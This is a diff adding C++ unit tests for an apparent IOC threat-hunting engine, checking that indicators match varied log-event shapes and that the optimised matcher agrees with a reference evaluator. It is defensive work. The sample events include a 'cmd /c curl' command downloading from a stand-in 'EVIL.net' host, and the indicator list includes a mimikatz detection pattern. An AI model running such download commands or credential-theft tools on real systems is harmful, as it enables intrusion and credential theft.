@@ -14,6 +14,7 @@
 #include "hunt/engine.h"
 #include "hunt/hunt.h"
 #include "hunt/logsource.h"
+#include "hunt/reference_evaluator.h"
 #include "hunt/sigma_rule.h"
 
 namespace ucsc::hunt {
@@ -452,6 +453,107 @@ TEST(IocSweep, StixLikeAndMatches) {
   EXPECT_EQ(d[1]["record"], 3);
   EXPECT_EQ(d[1]["ioc"]["stix_id"], "indicator--m");
   EXPECT_EQ(d[1]["ioc"]["field"], "CommandLine");
+}
+
+TEST(IocSweep, LookupsFollowTheShapesEventsUse) {
+  const std::string iocs =
+      "9.9.9.9\n"
+      "evil.net\n"
+      "http://dl.example.org/a/\n"
+      "example.biz/drop\n"
+      "imphash:" +
+      std::string(32, 'f') + "\n" +
+      "%APPDATA%\\Roaming\\upd.exe\n"
+      "HKLM\\SOFTWARE\\Bad\n"
+      "whoami.exe\n";
+  const std::string events = R"({"IpAddress":"::ffff:9.9.9.9"})"
+                             "\n"
+                             R"({"CommandLine":"cmd /c curl \"https://cdn.EVIL.net:8443/x\" -o a"})"
+                             "\n"
+                             R"({"url":"HTTP://dl.example.org/a/b.bin?x=1"})"
+                             "\n"
+                             R"({"url":"http://dl.example.org/ab"})"
+                             "\n"
+                             R"({"request.url":"https://example.biz/drop/1"})"
+                             "\n"
+                             R"({"Hashes":"MD5=00,IMPHASH=)" +
+                             std::string(32, 'F') +
+                             "\"}\n"
+                             R"({"TargetFilename":"C:\\Users\\u\\AppData\\Roaming\\upd.exe"})"
+                             "\n"
+                             R"({"ObjectName":"\\REGISTRY\\MACHINE\\SOFTWARE\\Bad\\Sub"})"
+                             "\n"
+                             R"({"TargetObject":"HKLM\\SOFTWARE\\Badness"})"
+                             "\n"
+                             R"({"process.executable":"/usr/bin/whoami.exe"})"
+                             "\n"
+                             R"({"QueryName":"evil.net.attacker.example"})"
+                             "\n";
+  const auto d = Hunt(iocs, events);
+  std::vector<std::string> got;
+  for (const auto& x : d) {
+    got.push_back(std::to_string(x["record"].get<int>()) + " " +
+                  x["ioc"]["value"].get<std::string>() + " " +
+                  x["ioc"]["field"].get<std::string>());
+  }
+  const std::vector<std::string> want = {
+      "1 9.9.9.9 IpAddress",
+      "2 evil.net CommandLine",
+      "3 http://dl.example.org/a/ url",
+      "5 example.biz/drop request.url",
+      "6 " + std::string(32, 'f') + " Hashes",
+      "7 %APPDATA%\\Roaming\\upd.exe TargetFilename",
+      "8 HKLM\\SOFTWARE\\Bad ObjectName",
+      "10 whoami.exe process.executable",
+  };
+  EXPECT_EQ(got, want);
+}
+
+TEST(IocSweep, EngineAgreesWithTheReferenceEvaluator) {
+  // The optimised plan and the plain AST walk give the same hits on IOC rules (set rules and
+  // rules of one indicator).
+  IocSet set;
+  ParseIocText(R"({"type":"bundle","objects":[)"
+               R"({"type":"indicator","id":"indicator--1","pattern":"[file:name = 'a.exe' AND )"
+               R"(ipv4-addr:value = '1.1.1.1']"},)"
+               R"({"type":"indicator","id":"indicator--2","pattern":"[domain-name:value IN )"
+               R"(('x.org','y.org')] OR [file:name LIKE 'b_.dll']"}]})",
+               "b.json", {}, &set);
+  ParseIocText("1.1.1.1\nevil.exe\n10.0.0.0/8\ncommandline:mimikatz\n", "l.txt", {}, &set);
+  ASSERT_TRUE(set.rejected.empty()) << set.rejected.front().ToString();
+  auto map = LogSourceMap::Parse(LogSourceMap::DefaultText());
+  ASSERT_TRUE(map.has_value());
+  std::vector<Rule> rules;
+  const IocSweep sweep = IocSweep::Add(std::move(set.indicators), &rules, &*map);
+  auto plan = Plan::Compile(rules, *map);
+  ASSERT_TRUE(plan.has_value());
+  Matcher matcher(**plan);
+  const int source = static_cast<int>(map->sources().size()) - 1;  // the IOC source
+  const std::vector<std::vector<std::pair<std::string, std::string>>> events = {
+      {{"Image", "C:\\a.exe"}, {"DestinationIp", "1.1.1.1"}},
+      {{"Image", "C:\\a.exe"}, {"DestinationIp", "1.1.1.2"}},
+      {{"QueryName", "www.y.org"}},
+      {{"ImageLoaded", "C:\\bX.dll"}},
+      {{"ImageLoaded", "C:\\bXY.dll"}},
+      {{"src_ip", "10.200.0.1"}, {"Channel", "Security"}, {"EventID", "4624"}},
+      {{"CommandLine", "x MimiKatz y"}},
+      {{"Message", "1.1.1.1 evil.exe"}},
+  };
+  std::size_t total = 0;
+  for (const auto& fields : events) {
+    Event e;
+    for (const auto& [k, v] : fields) e.Add(k, v);
+    std::vector<int> hits;
+    matcher.Match(e, &hits);
+    std::vector<int> want;
+    for (std::size_t r = 0; r < rules.size(); ++r) {
+      if (EvaluateRule(rules[r], e, &*map, source)) want.push_back(static_cast<int>(r));
+    }
+    EXPECT_EQ(hits, want) << e.ToJson();
+    for (int r : hits) EXPECT_NE(sweep.Describe(static_cast<std::size_t>(r), e), "");
+    total += hits.size();
+  }
+  EXPECT_EQ(total, 6u);  // events 1 (the AND rule and the address), 3, 4, 6 and 7
 }
 
 TEST(IocSweep, ManyIndicatorsAreGroupedAndTheRightOneIsNamed) {
